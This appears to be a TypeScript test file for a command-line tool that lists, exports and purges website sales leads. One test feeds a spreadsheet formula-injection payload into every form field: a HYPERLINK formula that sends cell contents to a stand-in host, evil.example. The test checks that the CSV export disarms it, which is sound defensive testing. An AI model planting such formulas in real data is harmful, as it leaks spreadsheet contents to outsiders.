import fc from 'fast-check';
import { expect, it } from 'vitest';
import { csvLine } from '../../src/cli/csv.ts';
import { run } from '../../src/cli/run.ts';
import { formatTable, textWidth } from '../../src/cli/table.ts';
import { describeStores, leadRequest, newLead, open } from '../support/stores.ts';

describeStores('the operator’s tool', (makeStore) => {
  async function start(answer = false) {
    const leads = await open(await makeStore());
    const lines: string[] = [];
    const questions: string[] = [];
    const confirm = (question: string) => {
      questions.push(question);
      return Promise.resolve(answer);
    };
    const print = (text: string) => void lines.push(text);
    const leadsTool = async (...args: string[]) => {
      lines.length = 0;
      await run(args, { desk: leads.desk, print, confirm });
      return lines.join('\n');
    };
    return { ...leads, leadsTool, questions };
  }

  it('lists leads as a table and as JSON', async () => {
    const { store, leadsTool } = await start();
    await store.accept(newLead());
    await store.accept(newLead({ state: 'quarantined', score: 7, signals: ['manyLinks'] }));
    const table = await leadsTool('list');
    expect(table).toContain('花子 Müller');
    expect(table).toContain('In all: 1 waiting, 0 delivered, 0 failed, 1 quarantined.');
    expect(await leadsTool('list', '--state', 'quarantined')).toContain('manyLinks');
    const json = async (...args: string[]) =>
      JSON.parse(await leadsTool('list', '--json', ...args)) as unknown[];
    expect(await json('--state', 'quarantined')).toMatchObject([{ score: 7 }]);
    expect(await json('--limit', '1')).toHaveLength(1);
  });

  it('shows one lead with its message', async () => {
    const { store, desk, leadsTool } = await start();
    const accepted = await store.accept(newLead());
    const shown = await leadsTool('show', 'id' in accepted ? accepted.id : '');
    expect(shown).toContain(leadRequest.message);
    expect(shown).toMatch(/email +hanako@acme\.example/u);
    const [{ id } = { id: '' }] = await desk.list({}, { limit: 1 });
    expect(JSON.parse(await leadsTool('show', id, '--json'))).toMatchObject({
      id,
      state: 'waiting',
      request: leadRequest,
    });
  });

  it('releases and retries, and says when a lead is in another state', async () => {
    const { store, desk, leadsTool } = await start();
    const accepted = await store.accept(newLead({ state: 'quarantined' }));
    const id = 'id' in accepted ? accepted.id : '';
    await expect(leadsTool('retry', id)).rejects.toThrow('not failed or waiting');
    expect(await leadsTool('release', id)).toBe('1 lead is in line for delivery.');
    expect(await desk.counts()).toMatchObject({ waiting: 1, quarantined: 0 });
    expect(await leadsTool('retry', '--all')).toBe('1 lead is in line for delivery.');
  });

  it('exports every lead, safe to open in a spreadsheet', async () => {
    const { store, leadsTool } = await start();
    await store.accept(newLead({ request: { ...leadRequest, company: '=HYPERLINK("x")' } }));
    await store.accept(newLead());
    const csv = await leadsTool('export');
    expect(csv).toContain(`,"'=HYPERLINK(""x"")",`);
    expect(csv.startsWith('\uFEFFid,state,receivedAt,')).toBe(true);
    const lines = (await leadsTool('export', '--json')).split('\n');
    expect(lines.map((line) => (JSON.parse(line) as { message: string }).message)).toEqual([
      leadRequest.message,
      leadRequest.message,
    ]);
  });

  it('asks before it erases', async () => {
    const refused = await start(false);
    await refused.store.accept(newLead());
    expect(await refused.leadsTool('purge', '--state', 'waiting')).toBe('Nothing was erased.');
    expect(refused.questions).toEqual(['Erase waiting leads for good?']);
    expect(await refused.desk.counts()).toMatchObject({ waiting: 1 });

    expect(await refused.leadsTool('purge', '--before', '2020-01-01', '--yes')).toContain(
      '0 leads',
    );
    expect(await refused.leadsTool('purge', '--state', 'waiting', '--yes')).toContain('1 lead was');
    expect(await refused.desk.counts()).toMatchObject({ waiting: 0 });
  });

  it('erases what was confirmed, and nothing beside it', async () => {
    const { store, desk, leadsTool, questions } = await start(true);
    const [first] = await Promise.all([store.accept(newLead()), store.accept(newLead())]);
    const id = 'id' in first ? first.id : '';
    expect(await leadsTool('purge', id, '--before', '2100-01-01')).toBe('1 lead was erased.');
    expect(questions).toEqual([`Erase leads ${id} received before 2100-01-01 for good?`]);
    const left = await desk.list({}, { limit: 10 });
    expect(left.map((lead) => lead.id)).not.toContain(id);
    expect(left).toHaveLength(1);
  });

  it('exports no cell that a spreadsheet would run, whatever was typed', async () => {
    const { store, leadsTool } = await start();
    const formula = `=HYPERLINK("https://evil.example?"&A1,"x")\n+1`;
    const typed = [
      'firstName',
      'lastName',
      'email',
      'phone',
      'company',
      'country',
      'message',
      'page',
    ];
    const request = {
      ...leadRequest,
      ...Object.fromEntries(typed.map((field) => [field, formula])),
    };
    await store.accept(newLead({ request }));
    const csv = await leadsTool('export');
    const disarmed = `,"'${formula.replaceAll('"', '""')}"`;
    expect(csv.split(disarmed)).toHaveLength(typed.length + 1);
  });

  it.each([
    [['frobnicate'], 'no command'],
    [['constructor'], 'no command'],
    [['list', '--state', 'lost'], 'not a state'],
    [['list', '--limit', '-1'], ''],
    [['list', '--verbose'], 'verbose'],
    [['show'], 'Name one lead'],
    [['show', 'x'], 'not the id'],
    [['show', '01a1fbc4-ad68-7e00-b445-a565ae40a274'], 'There is no lead'],
    [['retry'], '--all'],
    [['purge'], 'which leads'],
    [['purge', '--before', 'yesterday'], 'not a day'],
  ])('explains what is wrong with %o', async (args, message) => {
    const { leadsTool } = await start();
    await expect(leadsTool(...args)).rejects.toMatchObject({
      name: 'UsageError',
      message: expect.stringContaining(message) as string,
    });
  });

  it.each([
    ['list', ['--state', '--limit', '--json']],
    ['show', ['<id>', '--json']],
    ['retry', ['<id>', '--all']],
    ['release', ['<id>', '--all']],
    ['export', ['--state', '--json']],
    ['purge', ['<id>', '--state', '--before', '--yes']],
  ])('explains %s and its options', async (name, options) => {
    const { leadsTool } = await start();
    const explained = await leadsTool(name, '--help');
    expect(explained).toContain(`npm run leads -- ${name}`);
    for (const option of options) expect(explained).toContain(option);
    const [, usage = ''] = explained.split(`npm run leads -- `);
    for (const help of [await leadsTool(), await leadsTool('help'), await leadsTool('--help')]) {
      expect(help).toContain(`  ${usage}`);
    }
  });
});

it('disarms and quotes any cell so that it reads back as it was', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.stringMatching(/^[=+\-@\t\r"',\n＝]{1,6}$/u),
  );
  fc.assert(
    fc.property(fc.array(cell, { minLength: 1 }), (cells) => {
      const read = [...`,${csvLine(cells)}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",]*))/gu)].map(
        ([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain,
      );
      expect(read.filter((text) => /^[=+\-@\t\r]/u.test(text))).toEqual([]);
      expect(read.map((text, i) => (text === cells[i] ? text : text.replace(/^'/u, '')))).toEqual(
        cells,
      );
    }),
  );
});

it.each(['=1+1', '+49', '-1', '@SUM(A1)', '\t=1', '＝1'])('disarms the cell %s', (text) => {
  expect(csvLine([text])).toBe(`"'${text}"`);
});

it('lines columns up, also in wide scripts', () => {
  const lines = formatTable(
    ['NAME', 'X'],
    [
      ['山田', '1'],
      ['Ann', '2'],
      ['x'.repeat(99), '3'],
    ],
  ).split('\n');
  expect(lines.map((line) => textWidth(line.slice(0, -1)))).toEqual([42, 42, 42, 42]);
});
